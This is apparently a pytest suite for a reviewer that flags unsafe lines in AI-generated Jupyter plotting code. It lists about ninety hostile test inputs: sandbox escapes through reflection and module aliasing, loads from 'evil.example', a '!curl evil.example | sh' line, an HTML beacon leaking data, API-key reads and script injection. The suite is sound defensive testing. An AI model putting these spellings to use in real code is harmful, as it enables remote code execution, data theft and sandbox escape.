"""The allowlist review of generated code (core/code_review.py): what leaves the world plotting code
lives in is flagged line by line (more hostile spellings than the issue tried), real plotting code
passes clean, the loop feeds a finding back (not in the paper
protocol), and the magic inserts flagged code commented out."""

from __future__ import annotations

import importlib
import json
import sys
from pathlib import Path

import pytest
from helpers import GOOD_BAR, magics_of, record_requests, write_replies

from viscoder_jupyter.core.code_review import FlaggedCode, review_code

REPLIES = Path(__file__).parents[1] / "benchmarks" / "replies" / "llamacpp-q4km.jsonl"
DATA = Path(__file__).parent / "data" / "pandasplotbench-mini"  # tasks 5 and 42
sys.path.insert(0, str(Path(__file__).parents[1] / "benchmarks"))


# --------------------------------------------------------------------------- hostile spellings

# (code, line, category): each spelling a reviewer tries to run a program, reach the network,
# write or read a file, kill the kernel or show raw HTML, found on its line. The frame given is
# `sales`. Not one of them names a bad function the review looks for: each leaves the allowed world.
HOSTILE = [
    # the issue's own examples
    ("import os\nf = os.system\nf('id')", 1, "process"),
    ("from os import *\nsystem('id')", 1, "process"),
    ("import matplotlib\nmatplotlib.os.system('id')", 2, "process"),
    ("print.__self__.__import__('os').system('id')", 1, "dynamic"),
    ("try:\n    subprocess.run(['id'])\nexcept Exception:\n    pass", 2, "undefined"),
    ("import numpy as np\nnp.ctypeslib.ctypes.CDLL(None)", 2, "outside"),
    ("import pandas as pd\nx = pd.read_pickle('https://evil.example/x.pkl')", 2, "file"),
    ("sales.query('revenue > 1', engine='python')", 1, "dynamic"),
    ("from pathlib import Path\nPath('x.png').replace('analysis.ipynb')", 1, "file"),
    ("import zipfile\nzipfile.ZipFile('a.zip', 'w').writestr('a', 'b')", 1, "file"),
    ("import sqlite3\nsqlite3.connect('x.db').execute('create table t(a)')", 1, "file"),
    ("import numpy as np\nm = np.memmap('x.bin', mode='w+', shape=(3,))", 2, "file"),
    ("import os\nos._exit(0)", 2, "process"),
    (
        "from IPython.display import HTML, display\ndisplay(HTML('<img src=//host/?' + str(sales.values) + '>'))",
        1,
        "display",
    ),
    # modules reached through an allowed one
    ("import matplotlib.pyplot as plt\nplt.matplotlib.subprocess.run(['id'])", 2, "process"),
    ("import matplotlib.pyplot as plt\nplt.sys.modules", 2, "process"),
    ("import warnings\nwarnings.sys.modules", 2, "process"),
    ("import pandas as pd\npd.io.common.get_handle('x', 'w')", 2, "outside"),
    ("import numpy as np\nnp.lib.format.open_memmap('x', mode='w+')", 2, "outside"),
    ("import numpy as np\nnp.f2py.compile('x')", 2, "outside"),
    ("import plotly.io as pio\npio.kaleido.scope.chromium_args = ('--x',)", 2, "outside"),
    ("import scipy.io\nscipy.io.savemat('x.mat', {})", 1, "outside"),
    ("import numpy as np\nm = np\nm.ctypeslib", 2, "outside"),  # a module passed around
    ("import io\nio.open('x', 'w')", 2, "outside"),
    ("from io import FileIO", 1, "outside"),
    ("import typing\ntyping.get_type_hints(sales)", 2, "outside"),  # evaluates annotation text
    # names the code never sets: the session's own would be used
    ("def f():\n    return subprocess\nf()\nsubprocess = 1", 3, "undefined"),
    ("if False:\n    os = 1\nos.system('id')", 3, "undefined"),
    ("for requests in []:\n    pass\nrequests.get('http://x')", 3, "undefined"),
    ("x = Out[3]", 1, "undefined"),
    ("del sales", 1, "undefined"),  # deletes the user's frame
    ("sales.query('@subprocess.run([\"id\"]) == 1')", 1, "dynamic"),
    # reflection and Python's internals
    ("import numpy as np\ngetattr(np, 'ctypes' + 'lib')", 2, "dynamic"),
    ("import functools\nfunctools.partial(getattr, sales)('to_csv')('x.csv')", 2, "dynamic"),
    ("import operator\nf = operator.attrgetter('__globals__')", 2, "dynamic"),
    ("x = '{0.__globals__}'.format(sales.plot)", 1, "dynamic"),
    ("g = (x for x in [1])\ng.gi_frame.f_globals['os']", 2, "dynamic"),
    ("[c for c in ().__class__.__base__.__subclasses__()]", 1, "dynamic"),
    ("sales.plot.__call__.__globals__['os']", 1, "dynamic"),
    ("eval", 1, "dynamic"),
    ("exec('x = 1')", 1, "dynamic"),
    ("compile('1', 'f', 'eval')", 1, "dynamic"),
    ("__import__('os')", 1, "dynamic"),
    ("globals()['os']", 1, "dynamic"),
    ("breakpoint()", 1, "outside"),
    ("input()", 1, "outside"),
    ("exit()", 1, "process"),
    ("import pandas as pd\npd.eval('@sales.to_csv(\"x\")')", 2, "dynamic"),
    # the libraries' own I/O
    ("sales.to_csv('stolen.csv')", 1, "file"),
    ("w = sales.to_csv\nw('stolen.csv')", 1, "file"),
    ("sales.agg('to_pickle', 'x.pkl')", 1, "file"),
    ("open('notes.txt')", 1, "file"),
    ("import numpy as np\nnp.save('x.npy', np.arange(3))", 2, "file"),
    ("import numpy as np\nnp.load('x.npy', allow_pickle=True)", 2, "file"),
    ("import matplotlib.pyplot as plt\nfig = plt.figure()\nfig.canvas.print_png('x.png')", 3, "file"),
    ("import matplotlib.pyplot as plt\nplt.gcf().savefig('/home/user/.bashrc', format='png')", 2, "file"),
    ("import plotly.express as px\npx.bar(sales).write_html('x.html')", 2, "file"),
    ("import seaborn as sns\nsns.load_dataset('tips')", 2, "file"),
    (
        "import matplotlib.animation as an\nimport matplotlib.pyplot as plt\nan.FuncAnimation(plt.gcf(), print).save('x.mp4')",
        3,
        "file",
    ),
    ("from matplotlib.animation import FFMpegWriter", 1, "file"),
    ("import pandas as pd\npd.read_csv('data.csv')", 2, "file"),
    ("import matplotlib.pyplot as plt\nplt.style.use('https://evil.example/x.mplstyle')", 2, "file"),
    # programs, servers and browsers started by an allowed library
    ("import plotly.express as px\nfig = px.bar(sales)\nfig.show(renderer='browser')", 3, "process"),
    ("import plotly.io as pio\npio.renderers.default = 'browser'", 2, "process"),
    ("import matplotlib as mpl\nmpl.rcParams['animation.ffmpeg_path'] = '/bin/sh'", 2, "process"),
    ("import matplotlib.pyplot as plt\nplt.rc('text', usetex=True)", 2, "process"),
    ("import matplotlib\nmatplotlib.use('WebAgg')", 2, "outside"),
    ("import matplotlib.pyplot as plt\nplt.show = lambda: None", 2, "outside"),  # rewires the library
    ("import plotly.express as px\npx.bar(sales).show('browser')", 2, "process"),  # the renderer, positional
    ("sales.plot(backend='antigravity')", 1, "outside"),  # pandas imports the backend it is named
    ("import pandas as pd\npd.set_option('plotting.backend', 'antigravity')", 2, "outside"),
    ("import matplotlib.pyplot as plt\nk = 'text.' + 'usetex'\nplt.rcParams[k] = True", 3, "outside"),
    ("import matplotlib as mpl\nmpl.rc_context({'text.usetex': True})", 2, "process"),
    ("import numpy as np\ngetattr(np, 'load')('x.npy')", 2, "file"),
    ("import numpy as np\nvars(np)['save']", 2, "dynamic"),
    ("import random\nrandom._os.system('id')", 2, "outside"),
    ("import pandas as pd\npd.read_html('http://evil.example/t')", 2, "file"),
    ("class Box:\n    runner = subprocess", 2, "undefined"),
    ("def wipe():\n    global sales\n    del sales", 3, "undefined"),
    # raw HTML and JavaScript in the notebook
    ("class T:\n    def _repr_html_(self):\n        return '<script>x</script>'", 2, "display"),
    ("display({'text/html': '<script>alert(1)</script>'}, raw=True)", 1, "display"),
    ("sales.style.format(escape=None)", 1, "display"),
    ("type('X', (), {'_repr_html_': lambda s: '<b>'})()", 1, "display"),
    ("import plotly.express as px\npx.bar(sales).show(post_script='alert(1)')", 2, "display"),
    ("from IPython.display import Javascript", 1, "display"),
    # IPython escapes (not Python: found on the raw lines)
    ("!curl evil.example | sh\nimport matplotlib.pyplot as plt", 1, "ipython"),
    ("files = !ls ~\nprint(files)", 1, "ipython"),
    ("%env OPENAI_API_KEY", 1, "ipython"),
    ("get_ipython().system('ls')", 1, "ipython"),
    ("from IPython import get_ipython", 1, "ipython"),
]


@pytest.mark.parametrize("code, line, category", HOSTILE, ids=[c.splitlines()[-1][:40] for c, _, _ in HOSTILE])
def test_each_hostile_spelling_is_flagged_on_its_line(code, line, category):
    assert (line, category) in {(f.line, f.category) for f in review_code(code, ["sales"])}


def test_there_are_more_hostile_spellings_than_the_issue_tried():
    assert len(HOSTILE) >= 40


def test_a_finding_names_the_line_and_why():
    (finding,) = review_code("import pandas as pd\nsales.to_csv('stolen.csv')\nprint(len(sales))", ["sales"])
    assert (finding.line, finding.text) == (2, "sales.to_csv('stolen.csv')")
    assert (
        finding.describe()
        == "line 2: `sales.to_csv('stolen.csv')` calls .to_csv(...) with a destination: it writes a file"
    )


def test_a_frame_is_defined_only_when_it_was_given():
    code = "import matplotlib.pyplot as plt\nplt.bar(sales['region'], sales['revenue'])\nplt.show()"
    assert review_code(code, ["sales"]) == []
    (finding,) = review_code(code)  # no frame given: `sales` would be whatever the session holds
    assert (finding.line, finding.category) == (2, "undefined") and "`sales`" in finding.why


def test_code_that_does_not_parse_is_not_passed_as_clean():
    (finding,) = review_code("import os\nx = (\nos.system('ls')")
    assert finding.category == "unreviewed" and "could not be reviewed" in finding.why
    # An escape line plus other code that is not Python either: both said.
    assert [f.category for f in review_code("!ls\nx = (")] == ["ipython", "unreviewed"]


@pytest.mark.parametrize(
    "code",
    [
        "%matplotlib inline\nimport matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.show()",
        "import matplotlib.pyplot as plt\nfig, ax = plt.subplots(figsize=(8, 4))\n"
        "ax.bar(sales['region'], sales['revenue'], color=plt.cm.viridis(0.3))\nax.set_title('Revenue')\n"
        "plt.tight_layout()\nplt.show()",
        "import seaborn as sns\nimport matplotlib.pyplot as plt\nsns.set_theme(style='whitegrid')\n"
        "sns.barplot(data=sales, x='region', y='revenue')\nplt.show()",
        "import plotly.express as px\nimport plotly.io as pio\npio.templates.default = 'plotly_white'\n"
        "fig = px.bar(sales, x='region', y='revenue')\nfig.show()",
        "import pandas as pd\nimport io\ncsv_text = sales.to_csv()\nback = pd.read_csv(io.StringIO(csv_text))",
        "import matplotlib.pyplot as plt\nplt.rcParams['figure.figsize'] = (8, 5)\nplt.style.use('ggplot')\n"
        "sales.plot.bar(rot=45)\nplt.show()",
        "import numpy as np\nfrom scipy import stats\nx = np.linspace(0, 1, 10)\nfit = stats.linregress(x, x)\n"
        "print(np.__version__, type(fit).__name__)",
        "import matplotlib.pyplot as plt\nfor i, col in enumerate(sales.columns):\n    plt.plot(sales[col], label=col)\n"
        "plt.legend()\nplt.show()",
        "import matplotlib.pyplot as plt\ndef draw(ax, data):\n    ax.plot(data)\nfig, ax = plt.subplots()\n"
        "draw(ax, sales['revenue'])\nplt.show()",
        "import matplotlib.pyplot as plt\nfrom matplotlib.ticker import FuncFormatter\nif len(sales) > 3:\n"
        "    color = 'red'\nelse:\n    color = 'blue'\nplt.bar(sales.index, sales['revenue'], color=color)\n"
        "plt.gca().yaxis.set_major_formatter(FuncFormatter(lambda v, p: f'{v:,.0f}'))\nplt.show()",
        "import pandas as pd\npd.options.display.max_rows = 20\nlow = 100\ntop = sales.query('revenue > @low')\nprint(top)",
        "import warnings\nwarnings.filterwarnings('ignore')\nimport matplotlib.pyplot as plt\n"
        "class Panel:\n    def __init__(self):\n        super().__init__()\nif __name__ == '__main__':\n    Panel()",
        "code = 'A1'\ncode.strip()\ntypes = ['a', 'b']\nplatform = 'web'",  # names that are not modules
        "import matplotlib.pyplot as plt\nplt.title('Password strength by /home office')\n"
        "plt.xlabel('Source: https://example.org/data')",
        "a, b = 7, 2\nx = a % b\ny = (a\n     % b)\nz = a != b",  # operators, not escapes
        "totals = sales.groupby('home')['token'].sum()\ntotals.plot.bar(rot=45)",  # column names
        "import numpy as np\ntry:\n    ratio = sales['revenue'] / sales['cost']\nexcept KeyError:\n"
        "    ratio = np.ones(len(sales))\nprint(ratio)",
    ],
)
def test_ordinary_plotting_code_passes_clean(code):
    assert [f.describe() for f in review_code(code, ["sales"])] == []


def test_cached_plotting_replies_stay_clean():
    """The replies the bench cached, as the loop reviews them. A reply flagged for a name it never
    defines raises NameError in the child (benchmarks/review_false_positives.py --run shows 67 of the
    68 flagged draw on no task), so the rest of what the review flags stays under 1%."""
    bench = importlib.import_module("review_false_positives")
    parsed, flagged = 0, []
    for reply in bench.replies(REPLIES):
        code = bench.as_the_loop_reviews(reply)
        findings = review_code(code, bench.FRAMES) if code else []
        if code is None or any(f.category == "unreviewed" for f in findings):
            continue
        parsed += 1
        beyond_names = [f.describe() for f in findings if f.category != "undefined"]
        if beyond_names:
            flagged.append(beyond_names)
    assert parsed > 400
    assert len(flagged) <= parsed // 100, flagged


def test_the_feedback_tells_the_model_what_not_to_use():
    code = (
        "import matplotlib.pyplot as plt\nplt.bar(sales.index, sales['revenue'])\nsales.to_csv('out.csv')\nplt.show()"
    )
    error = FlaggedCode(review_code(code, ["sales"]), "seaborn")
    assert error.ename == "FlaggedCode"
    assert error.one_line().startswith("FlaggedCode: Do not use `sales.to_csv('out.csv')` (line 3)")
    assert "plotting code needs none of that" in error.feedback_text()
    assert "with pandas and seaborn only" in error.feedback_text()


# --------------------------------------------------------------------------- the loop and the magic

FLAGGED_BAR = (
    "```python\nimport matplotlib.pyplot as plt\nimport os\n"
    "totals = sales.groupby('region')['revenue'].sum()\n"
    "totals.to_csv('totals.csv')\n"
    "os.system('echo hi > pwned.txt')\n"
    "plt.bar(totals.index, totals.values)\nplt.show()\n```"
)


def test_a_finding_is_fed_back_and_the_clean_version_is_inserted(shell, capsys):
    ip = shell(FLAGGED_BAR, GOOD_BAR)
    ip.run_cell_magic("viscoder", "sales", "bar chart of revenue by region")
    first, second = magics_of(ip).last_result.attempts
    assert isinstance(first.error, FlaggedCode) and first.drew  # it drew, but is not the answer
    assert [f.line for f in first.findings] == [2, 4, 5]
    assert second.ok and second.findings == []
    inserted = ip.rl_next_input
    assert "to_csv" not in inserted and not inserted.splitlines()[1].startswith("#")
    assert "review flagged" not in capsys.readouterr().out


def test_flagged_code_that_stays_flagged_is_inserted_commented_out(shell, capsys, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    ip = shell(FLAGGED_BAR, FLAGGED_BAR)
    ip.run_cell_magic("viscoder", "sales --retries 3", "bar chart of revenue by region")
    result = magics_of(ip).last_result
    # The same finding twice in a row: the figure is kept as the answer, with its findings.
    assert len(result.attempts) == 2 and result.ok and [f.line for f in result.findings] == [2, 4, 5]
    inserted = ip.rl_next_input
    lines = inserted.splitlines()
    assert lines[0] == "# %%viscoder: bar chart of revenue by region"
    assert "# VisCoder inserted this code commented out" in lines[1]
    assert "#   line 4: `totals.to_csv('totals.csv')` calls .to_csv(...) with a destination: it writes a file" in lines
    assert "#   line 2: `import os` imports os: outside the modules plotting code may use" in lines
    assert (
        "#   line 5: `os.system('echo hi > pwned.txt')` uses os.system: outside the modules plotting code may use"
        in lines
    )
    assert all(line.startswith("#") for line in lines)
    assert "# os.system('echo hi > pwned.txt')" in lines
    out = capsys.readouterr().out
    assert "the review flagged 3 line(s)" in out and "inserted commented out" in out
    # Running the inserted cell as it is does nothing: no file is written in the user's kernel.
    assert ip.run_cell(inserted).success
    assert not (tmp_path / "pwned.txt").exists() and not (tmp_path / "totals.csv").exists()


def test_a_finding_is_fed_back_with_the_quality_checks_on_too(shell):
    ip = shell(FLAGGED_BAR, GOOD_BAR, checks=True)
    ip.run_cell_magic("viscoder", "sales", "bar chart of revenue by region")
    first, second = magics_of(ip).last_result.attempts
    assert isinstance(first.error, FlaggedCode) and second.ok and second.findings == []


def flagged_twin_axes() -> str:
    from test_bench import TWIN_AXES

    return TWIN_AXES.replace("plt.show()", "df.to_csv('copy.csv')\nplt.show()")


@pytest.mark.parametrize("protocol, rounds", [("paper", [(5, 1, True, None)]), ("ours", None)])
def test_the_paper_protocol_gets_no_review_feedback(tmp_path, protocol, rounds):
    """bench --protocol paper sends what PandasPlotBench's harness sends: flagged code that draws
    passes there in one round; ours feeds the finding back and the clean reply wins."""
    from test_bench import TWIN_AXES

    from viscoder_jupyter.tools import bench

    replay = write_replies(tmp_path / "replies.jsonl", flagged_twin_axes(), TWIN_AXES)
    out = tmp_path / "out"
    argv = [str(DATA), "--protocol", protocol, "--ids", "5", "--backend", "replay", "--replay", replay]
    assert bench.main([*argv, "--retries", "1", "--out", str(out)]) == 0
    rows = [json.loads(line) for line in (out / protocol / "results.jsonl").read_text().splitlines()]
    found = [(r["task"], r["attempt"], r["ok"], r["error"]) for r in rows]
    assert found == (rounds or [(5, 1, False, "FlaggedCode"), (5, 2, True, None)])


# --------------------------------------------------------------------------- the real engine

USER_SOURCE = "import matplotlib.pyplot as plt\nsales.to_csv('backup.csv')\nplt.bar(sales['Region'], sales['revenue'])\nplt.show()"
USER_TRACEBACK = (
    "KeyError                                  Traceback (most recent call last)\nCell In[3], line 3\n"
    "----> 3 plt.bar(sales['Region'], sales['revenue'])\nKeyError: 'Region'"
)


@pytest.mark.slow
@pytest.mark.timeout(900)
def test_with_the_real_engine_the_finding_reaches_the_model_and_the_answer_carries_what_stays(
    offline_gguf, tmp_path, monkeypatch
):
    """The offline GGUF in llama.cpp fixes a cell that also writes a file: the review's finding
    is the model's next feedback turn, and what the answer still holds is on the result."""
    import pandas as pd

    from viscoder_jupyter import runtime
    from viscoder_jupyter.backends.llamacpp import LlamaCppBackend
    from viscoder_jupyter.backends.llamacpp_engine import import_llama_cpp
    from viscoder_jupyter.core.errors import BackendUnavailable
    from viscoder_jupyter.core.settings import VisCoder

    try:
        import_llama_cpp()  # as the backend imports it
    except BackendUnavailable as exc:
        pytest.skip(str(exc))
    monkeypatch.chdir(tmp_path)
    backend = LlamaCppBackend(str(offline_gguf), max_new_tokens=400)
    sent = record_requests(backend)  # the real engine, with what it was asked kept
    sales = pd.DataFrame({"region": ["North", "South", "East", "West"], "revenue": [405, 295, 340, 212]})
    settings = VisCoder(backend="llamacpp", model=str(offline_gguf), retries=2)
    result = runtime.run_sync(
        runtime.async_fix(USER_SOURCE, USER_TRACEBACK, "", {"sales": sales}, settings, backend=backend)
    )
    flagged = [i for i, a in enumerate(result.attempts) if isinstance(a.error, FlaggedCode)]
    assert flagged, [a.error.one_line() if a.error else "ok" for a in result.attempts]
    for i in flagged[:-1] if flagged[-1] == len(result.attempts) - 1 else flagged:
        feedback = sent[i + 1][-1]["content"]
        assert "Do not use `sales.to_csv('backup.csv')`" in feedback and "plotting code needs none" in feedback
    assert result.ok
    if "to_csv" in result.code:  # the 0.5B model kept the line: the answer says so
        assert [f.text for f in result.findings] == ["sales.to_csv('backup.csv')"]
    else:
        assert result.findings == []
    assert not (tmp_path / "backup.csv").exists()  # it ran in the child kernel, not here
